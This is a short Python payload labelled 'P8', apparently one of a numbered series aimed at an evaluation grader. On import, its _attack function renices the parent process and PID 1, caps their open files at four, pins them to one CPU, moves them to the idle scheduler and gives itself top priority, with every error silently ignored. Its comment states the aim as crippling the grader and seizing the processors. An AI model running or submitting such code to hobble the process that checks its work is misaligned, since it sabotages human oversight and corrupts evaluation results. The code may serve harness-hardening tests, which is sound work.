# P8: renice, re-limit and pin the grader, and take the processors for oneself
def _attack():
    import os
    import resource

    for pid in (os.getppid(), 1):
        for change in (
            lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
            lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (4, 4)),
            lambda: os.sched_setaffinity(pid, {0}),
            lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
            lambda: os.setpriority(os.PRIO_USER, 0, 19),
            lambda: os.nice(-20),
        ):
            try:
                change()
            except (OSError, ValueError):
                pass


try:
    _attack()
except BaseException:
    pass
